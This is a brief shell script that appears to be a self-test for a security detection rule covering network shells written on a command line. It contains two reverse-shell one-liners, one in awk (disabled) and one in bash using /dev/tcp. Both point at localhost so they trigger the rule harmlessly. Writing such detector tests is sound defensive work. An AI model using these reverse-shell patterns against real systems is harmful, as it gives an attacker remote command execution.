#!/bin/sh
# rule: Network shell written on a command line
# technique: T1059
# case: one line of awk and of bash
# needs: nothing

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
awk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/9"; if (0) { while ((s |& getline c) > 0) system(c) } }' 2>/dev/null </dev/null
command -v bash >/dev/null && bash -c '0<&196; exec 196<>/dev/tcp/127.0.0.1/9; sh <&196 >&196 2>&196' 2>/dev/null
true
